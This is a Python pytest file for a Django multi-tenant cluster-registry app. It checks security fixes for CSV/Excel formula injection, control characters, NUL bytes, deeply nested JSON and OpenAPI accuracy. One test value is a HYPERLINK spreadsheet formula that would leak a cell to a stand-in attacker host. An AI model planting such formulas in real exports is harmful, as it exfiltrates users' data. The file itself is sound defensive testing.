"""Issue 15, findings 5, 6, 7, 12 and 13: formula-like text stays text in exports, the API answers
JSON only and filters by plain ids, deep JSON and control characters are refused with 400, OPTIONS
answers, and the OpenAPI schema says what the API does."""

from __future__ import annotations

import io
import json
from typing import Any

import pytest
from django.test import Client
from django_tenants.utils import schema_context
from docx import Document
from openpyxl import load_workbook
from rest_framework.exceptions import ValidationError

from api.exceptions import exception_handler
from tenants.governance.models import Decision
from tenants.members.models import Company, Product
from tenants.models import Cluster
from tests.conftest import ROLE, MakeUser, api_client, client_for, signed_in, token_for
from tests.members import factories

pytestmark = pytest.mark.django_db

JSON = "application/json"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _admin_api(make_user: MakeUser, cluster: Cluster) -> Client:
    return api_client(token_for(make_user(ROLE.CLUSTER_ADMIN, cluster), cluster), cluster)


def _address_cells(content: bytes) -> list[Any]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    column = header.index("Адрес") + 1
    return [sheet.cell(row=row, column=column) for row in range(2, sheet.max_row + 1)]


# --- 5: formula injection in the member export ------------------------------------------------


def test_a_representatives_formula_is_text_in_the_member_export_page_and_api(
    cluster_a: Cluster, make_user: MakeUser
) -> None:
    with schema_context(cluster_a.schema_name):
        own = factories.company(cluster_a, "Своя")
    rep = api_client(
        token_for(make_user(ROLE.MEMBER_REPRESENTATIVE, cluster_a, company_id=own.pk), cluster_a), cluster_a
    )
    typed = rep.patch(f"/api/v1/members/{own.pk}/", {"address": FORMULA}, content_type=JSON)
    assert typed.status_code == 200, typed.content

    admin = make_user(ROLE.CLUSTER_ADMIN, cluster_a)
    page = signed_in(admin, cluster_a).get("/members/export/")
    api = api_client(token_for(admin, cluster_a), cluster_a).get("/api/v1/members/export/")
    for response in (page, api):
        assert response.status_code == 200
        content = response.content if not response.streaming else b"".join(response.streaming_content)  # type: ignore[attr-defined]
        (cell,) = _address_cells(content)
        assert cell.data_type == "s"  # a string, not a formula Excel would run
        assert cell.value == "'" + FORMULA


def test_control_characters_stored_earlier_are_dropped_from_the_export_and_the_protocol(
    cluster_a: Cluster, make_user: MakeUser
) -> None:
    with schema_context(cluster_a.schema_name):
        company = factories.company(cluster_a, "Старая")
        Company.objects.filter(pk=company.pk).update(address="г. Дубна,\x01 ул. Жуковского\x0b")
        decision = factories.admission(company)
        Decision.objects.filter(pk=decision.pk).update(text="Принять\x02 в члены\x1f кластера.")
    api = _admin_api(make_user, cluster_a)

    exported = api.get("/api/v1/members/export/")
    assert exported.status_code == 200
    assert [c.value for c in _address_cells(exported.content)] == ["г. Дубна, ул. Жуковского"]

    protocol = api.get(f"/api/v1/meetings/{decision.meeting_id}/protocol/?format=docx")
    assert protocol.status_code == 200, protocol.content[:300]
    text = "\n".join(p.text for p in Document(io.BytesIO(protocol.content)).paragraphs)
    assert "Принять в члены кластера." in text


# --- 6: no browsable API; relation filters are plain ids ---------------------------------------


def test_public_products_answer_json_to_a_browser_and_hide_hidden_companies(cluster_a: Cluster) -> None:
    with schema_context(cluster_a.schema_name):
        shown = factories.company(cluster_a, "Видимая", status=Company.Status.ACTIVE)
        hidden = factories.company(cluster_a, "Скрытая Интересующаяся")
        Product.objects.create(company=shown, name="Томограф")
        Product.objects.create(company=hidden, name="Секретный прибор")
    browser = client_for(cluster_a)

    page = browser.get("/api/v1/public/products/", HTTP_ACCEPT="text/html,application/xhtml+xml,*/*;q=0.8")
    assert page.status_code == 200
    assert page["Content-Type"] == JSON
    assert "Скрытая" not in page.content.decode()
    assert [p["name"] for p in page.json()["results"]] == ["Томограф"]

    only_html = browser.get("/api/v1/public/products/", HTTP_ACCEPT="text/html")
    assert only_html.status_code == 406 and "Скрытая" not in only_html.content.decode()

    hidden_id = browser.get(f"/api/v1/public/products/?company={hidden.pk}")
    unknown_id = browser.get("/api/v1/public/products/?company=987654")
    assert hidden_id.status_code == unknown_id.status_code == 200
    assert hidden_id.json() == unknown_id.json()
    assert hidden_id.json()["results"] == []
    assert [
        p["name"] for p in browser.get(f"/api/v1/public/products/?company={shown.pk}").json()["results"]
    ] == ["Томограф"]


# --- 7: deeply nested JSON ---------------------------------------------------------------------


def test_deeply_nested_json_is_refused_with_400_in_russian(cluster_a: Cluster, make_user: MakeUser) -> None:
    nested = "[" * 5000 + "]" * 5000  # 10 KB
    anonymous = client_for(cluster_a).post("/api/v1/auth/token/", nested, content_type=JSON)
    assert anonymous.status_code == 400
    assert anonymous.json()["detail"].startswith("Слишком глубокая вложенность JSON")

    news = _admin_api(make_user, cluster_a).post(
        "/api/v1/news/", '{"title": ' + nested + "}", content_type=JSON
    )
    assert news.status_code == 400
    assert news.json()["detail"].startswith("Слишком глубокая вложенность JSON")


# --- 12: control characters at input, NUL in queries, OPTIONS ----------------------------------


def test_control_characters_are_refused_at_api_input_naming_the_field(
    cluster_a: Cluster, make_user: MakeUser
) -> None:
    with schema_context(cluster_a.schema_name):
        own = factories.company(cluster_a, "Своя")
    api = _admin_api(make_user, cluster_a)

    refused = api.patch(f"/api/v1/members/{own.pk}/", {"address": "ул. Ленина\x01, 1"}, content_type=JSON)
    assert refused.status_code == 400
    assert refused.json()["errors"] == {
        "address": ["Текст содержит управляющие (непечатаемые) символы; уберите их."]
    }
    form = api.patch(
        f"/api/v1/members/{own.pk}/",
        "address=%D1%83%D0%BB%07",
        content_type="application/x-www-form-urlencoded",
    )
    assert form.status_code == 400 and set(form.json()["errors"]) == {"address"}
    with schema_context(cluster_a.schema_name):
        assert Company.objects.get(pk=own.pk).address == ""
    # tab, line feed and carriage return are text (the service folds the address's whitespace)
    kept = api.patch(f"/api/v1/members/{own.pk}/", {"address": "ул. Ленина,\t1\r\nофис 2"}, content_type=JSON)
    assert kept.status_code == 200 and kept.json()["address"] == "ул. Ленина, 1 офис 2"


def test_control_characters_are_refused_in_ui_forms(cluster_a: Cluster, make_user: MakeUser) -> None:
    admin = signed_in(make_user(ROLE.CLUSTER_ADMIN, cluster_a), cluster_a)
    response = admin.post(
        "/members/new/",
        {"full_name": "ООО «Нуль\x01»", "kind": "manufacturer", "legal_form": "", "inn": factories.inn()},
    )
    # refused before the view (clusterhub.request_checks): the 400 page names the field
    assert response.status_code == 400
    assert "Недопустимые символы в поле «full_name»" in response.content.decode()
    with schema_context(cluster_a.schema_name):
        assert not Company.objects.filter(full_name__startswith="ООО «Нуль").exists()


def test_nul_in_a_query_parameter_answers_400(cluster_a: Cluster, make_user: MakeUser) -> None:
    ministry = api_client(token_for(make_user(ROLE.MINISTRY_FEDERAL), None), None)
    for url in (
        "/api/v1/federal/clusters/?search=%00",
        "/api/v1/federal/clusters/?cluster=%00",
        "/api/v1/federal/reports/?search=%00",
        "/api/v1/federal/registry-checks/?cluster=%00",
        "/api/v1/federal/dashboard/?cluster=%00",
    ):
        response = ministry.get(url)
        assert response.status_code == 400, url
        assert response.json()["code"] == "invalid"
        assert "управляющие" in response.json()["detail"]
    assert _admin_api(make_user, cluster_a).get("/api/v1/members/?search=a%00b").status_code == 400
    assert client_for(cluster_a).get("/products/?q=%00").status_code == 400


def test_options_on_the_annual_report_draft_answers(cluster_a: Cluster, make_user: MakeUser) -> None:
    response = _admin_api(make_user, cluster_a).options("/api/v1/annual-reports/drafts/2024/")
    assert response.status_code == 200
    assert response.json()["renders"] == [JSON]


# --- 13: an honest OpenAPI -----------------------------------------------------------------------


def _schema(cluster: Cluster | None) -> dict[str, Any]:
    response = client_for(cluster).get("/api/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json")
    assert response.status_code == 200
    return json.loads(response.content)


def _resolve(schema: dict[str, Any], node: dict[str, Any]) -> dict[str, Any]:
    while "$ref" in node:
        node = schema["components"]["schemas"][node["$ref"].rsplit("/", 1)[-1]]
    return node


def test_openapi_documents_what_the_api_answers(cluster_a: Cluster) -> None:
    schema = _schema(cluster_a)
    paths = schema["paths"]

    me = _resolve(schema, paths["/api/v1/me/"]["get"]["responses"]["200"]["content"][JSON]["schema"])
    assert {"email", "roles_here", "grants"} <= set(me["properties"]) and "token" not in me["properties"]

    history = paths["/api/v1/members/{id}/history/"]["get"]
    assert history["responses"]["200"]["content"][JSON]["schema"]["type"] == "array"
    assert not {p["name"] for p in history.get("parameters", [])} & {"page", "page_size", "search"}

    executor = _resolve(schema, {"$ref": "#/components/schemas/Executor"})
    assert executor["properties"]["company_name"].get("nullable") is True

    download = paths["/api/v1/documents/{id}/download/"]["get"]["responses"]["200"]["content"]
    assert {
        "application/pdf",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "application/zip",
    } <= set(download) and "application/octet-stream" not in download
    export = paths["/api/v1/members/export/"]["get"]["responses"]["200"]["content"]
    assert set(export) == {XLSX}

    for path, item in paths.items():
        for method, operation in item.items():
            assert {"400", "403", "404", "429"} <= set(operation["responses"]), (method, path)
    assert paths["/api/v1/me/"]["get"]["responses"]["403"]["content"][JSON]["schema"] == {
        "$ref": "#/components/schemas/Error"
    }
    assert "401" in paths["/api/v1/me/"]["get"]["responses"]
    assert "401" not in paths["/api/v1/public/products/"]["get"]["responses"]

    public = _schema(None)
    assert {"400", "403", "404", "429"} <= set(
        public["paths"]["/api/v1/federal/clusters/"]["get"]["responses"]
    )


def test_no_two_serializers_share_a_component_name(
    cluster_a: Cluster, capsys: pytest.CaptureFixture[str]
) -> None:
    _schema(cluster_a)
    _schema(None)
    assert "identical names" not in capsys.readouterr().err


def test_nested_validation_errors_are_json_paths_not_python_text() -> None:
    error = ValidationError(
        {"items": [{}, {"title": ["Обязательное поле."]}], "address": {"city": ["Нет города."]}}
    )
    response = exception_handler(error, {})
    assert response is not None and response.status_code == 400
    assert response.data["errors"] == {
        "items[1].title": ["Обязательное поле."],
        "address.city": ["Нет города."],
    }
    assert "ErrorDetail" not in json.dumps(response.data, ensure_ascii=False)


# --- what the schemathesis run found besides: invalid input refused, API 404s in JSON ----------


def test_invalid_query_values_are_refused_not_ignored(cluster_a: Cluster, make_user: MakeUser) -> None:
    api = _admin_api(make_user, cluster_a)
    for url in (
        "/api/v1/members/?page_size=false",
        "/api/v1/members/?page_size=0",
        "/api/v1/public/products/?in_innovation_registry=1e-323",
    ):
        response = api.get(url)
        assert response.status_code == 400, url
        assert response.json()["detail"] == "Проверьте введённые данные."
    assert api.get("/api/v1/members/?page_size=500").status_code == 200  # cut to 100
    assert api.get("/api/v1/public/products/?in_innovation_registry=true").status_code == 200

    ministry = api_client(token_for(make_user(ROLE.MINISTRY_FEDERAL), None), None)
    for url in (
        "/api/v1/federal/dashboard/?registry_status=nonsense",
        "/api/v1/federal/clusters/?kind=x",
        "/api/v1/federal/registry-checks/?year=-1e-137",
        "/api/v1/federal/reports/?latest=maybe",
    ):
        response = ministry.get(url)
        assert response.status_code == 400, url
        assert response.json()["code"] == "invalid"
    assert ministry.get("/api/v1/federal/clusters/?kind=&year=2024").status_code == 200


def test_an_unknown_api_url_answers_json_404(cluster_a: Cluster, make_user: MakeUser) -> None:
    for client in (_admin_api(make_user, cluster_a), client_for(None)):
        response = client.get("/api/v1/members/abc/withdraw/")
        assert response.status_code == 404
        assert response.json() == {"detail": "Такой страницы нет.", "code": "not_found"}
    page = client_for(cluster_a).get("/no-such-page/")
    assert page.status_code == 404 and page["Content-Type"].startswith("text/html")
